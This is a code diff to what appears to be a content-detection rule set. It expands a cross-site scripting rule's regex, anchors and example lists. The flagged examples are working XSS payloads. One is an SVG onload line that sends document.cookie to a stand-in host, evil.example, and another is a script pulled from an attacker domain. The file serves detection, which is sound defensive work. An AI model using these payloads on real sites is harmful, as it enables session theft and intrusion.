@@ -205,16 +205,35 @@ export const CODE_INJECTION_RULES: readonly RuleDefinition[] = [
     family,
     category: 'code-intent',
     severity: 'high',
-    description: 'Cross-site scripting payload: script or event handler that runs alert/eval/cookie theft, javascript: URLs, SVG onload.',
-    anchors: ['<script', 'javascript:', 'onerror', 'onload', 'onmouseover', 'onfocus', 'onclick', 'onblur', 'ontoggle', 'onanimation', 'onbegin', 'onpageshow', 'onwheel', 'onmouseenter', 'onpointer', 'onstart', 'onfinish', 'oninput', 'onchange', 'expression(', 'srcdoc', 'vbscript:', '<'],
+    description: 'Cross-site scripting payload: script or event handler that runs alert/eval/cookie theft, javascript: URLs, SVG onload, a polyglot\'s break-out of comment and CDATA contexts (-->]]>).',
+    anchors: ['<script', 'javascript:', 'onerror', 'onload', 'onmouseover', 'onfocus', 'onclick', 'onblur', 'ontoggle', 'onanimation', 'onbegin', 'onpageshow', 'onwheel', 'onmouseenter', 'onpointer', 'onstart', 'onfinish', 'oninput', 'onchange', 'expression(', 'srcdoc', 'vbscript:', '-->', '<'],
     pattern:
-      /<\s*script\b[^>]{0,200}>[^<]{0,200}?(?:alert|prompt|confirm|eval|document\.(?:cookie|location|write|domain)|window\.location|fetch(?!\s*\(\s*['"`]\/(?!\/))|xmlhttprequest|string\.fromcharcode|atob)\s*[(.=`]|<\s*script\b[^>]{0,80}\bsrc\s*=\s*["']?(?:https?:)?\/\/(?!(?:cdn|ajax|code|unpkg|www\.google|apis\.google))|\bon(?:error|load|mouseover|focus|click|blur|toggle|animation\w{0,10}|begin|pageshow|wheel|mouseenter|pointer\w{0,6}|start|finish|input|change)\s*=\s*["'`]?[^"'`>]{0,60}?(?:alert|prompt|confirm|eval|document\.|window\.|location|fetch|javascript:|string\.fromcharcode|atob|\bimport\()|\b(?:java|vb)script\s*:(?!\s)[^\n"'<>]{0,80}?(?:alert|prompt|confirm|eval|document\.|window\.|fetch|atob)|\bexpression\s*\([^)]{0,40}(?:alert|javascript|eval)|\bsrcdoc\s*=\s*["']?[^"'>]{0,100}<script|<\s*(?:svg|img|body|iframe|details|video|audio|input|marquee|object|embed|math|a|frameset|bgsound|br|div|style|x)\b[^>]{0,120}?[\s/"'](?:on[a-z]{2,20}\s*=(?!\s*\{)|(?:src|href|data|action|formaction|xlink:href)\s*=\s*["'`]?\s*(?:java|vb)script:)/,
+      /<\s*script\b[^>]{0,200}>[^<]{0,200}?(?:alert|prompt|confirm|eval|document\.(?:cookie|location|write|domain)|window\.location|fetch(?!\s*\(\s*['"`]\/(?!\/))|xmlhttprequest|string\.fromcharcode|atob)\s*[(.=`]|<\s*script\b(?![^>]{0,400}\bintegrity\s*=)[^>]{0,80}\bsrc\s*=\s*["']?(?:https?:)?\/\/(?!(?:cdn|ajax|code|unpkg|www\.google|apis\.google))|\bon(?:error|load|mouseover|focus|click|blur|toggle|animation\w{0,10}|begin|pageshow|wheel|mouseenter|pointer\w{0,6}|start|finish|input|change)\s*=\s*["'`]?[^"'`>]{0,60}?(?:alert|prompt|confirm|eval|document\.|window\.|location|fetch|javascript:|string\.fromcharcode|atob|\bimport\()|\b(?:java|vb)script\s*:(?!\s)[^\n"'<>]{0,80}?(?:alert|prompt|confirm|eval|document\.|window\.|fetch|atob)|\bexpression\s*\([^)]{0,40}(?:alert|javascript|eval)|\bsrcdoc\s*=\s*["']?[^"'>]{0,100}<script|<\s*(?:svg|img|body|iframe|details|video|audio|input|marquee|object|embed|math|a|frameset|bgsound|br|div|style|x)\b[^>]{0,120}?[\s/"'](?:on[a-z]{2,20}\s*=(?!\s*\{)(?!\s*["']\s*(?!(?:alert|prompt|confirm|eval|fetch|atob|import|top|self|window|document|parent|frames|globalthis|location|settimeout|setinterval|function|constructor|print)\b)[a-z_$][\w$]{0,40}\s*\((?![^)]{0,60}(?:document|window|cookie|location|storage|alert|eval))[\w\s,'.$-]{0,60}\)\s*;?\s*["'])|(?:src|href|data|action|formaction|xlink:href)\s*=\s*["'`]?\s*(?:java|vb)script:)|-->\s*\]\]>/,
     lookback: 2,
     reference: 'PayloadsAllTheThings XSS Injection; OWASP XSS Filter Evasion Cheat Sheet; CWE-79',
     examples: {
-      flagged: ["<script>alert('XSS')</script>", '<img src=x onerror=alert(1)>', '<svg/onload=fetch("//evil.example?c="+document.cookie)>', 'javascript:alert(document.domain)'],
-      // A page's own script calling its own API, and JSX handlers (onChange={…}): ordinary code answers.
-      clean: ['<script src="/static/app.js"></script>', '<button onclick="toggleMenu()">Menu</button>', "<script>fetch('/api/items').then((res) => res.json())</script>", '<input value={query} onChange={(e) => setQuery(e.target.value)} />'],
+      flagged: [
+        "<script>alert('XSS')</script>",
+        '<img src=x onerror=alert(1)>',
+        '<svg/onload=fetch("//evil.example?c="+document.cookie)>',
+        'javascript:alert(document.domain)',
+        '<img src=x onerror="alert(1)">',
+        '<details open ontoggle="prompt(document.domain)">',
+        '<body onload="steal(document.cookie)">',
+        '<script src="https://evil.example.net/x.js"></script>',
+        '<a href="#" onclick="go()">x</a>//["\'`-->]]>]</div>',
+      ],
+      // A page's own script calling its own API, JSX handlers (onChange={…}), a handler that calls
+      // the page's own function, a library pinned by its Subresource Integrity hash: ordinary code answers.
+      clean: [
+        '<script src="/static/app.js"></script>',
+        '<button onclick="toggleMenu()">Menu</button>',
+        "<script>fetch('/api/items').then((res) => res.json())</script>",
+        '<input value={query} onChange={(e) => setQuery(e.target.value)} />',
+        '<input type="button" onclick="getDate()" value="Click Me to Get the Date">',
+        '<div class="tab" onclick="openTab(event, \'London\')">London</div>',
+        '<script src="https://stackpath.example.net/bootstrap.min.js" integrity="sha384-B4gt1jrGC7Jh4AgTPSdUtOBvfO8shuf57BaghqFfPlYxofvL8/KUEfYiJOMMV+rV" crossorigin="anonymous"></script>',
+      ],
     },
   },
   {
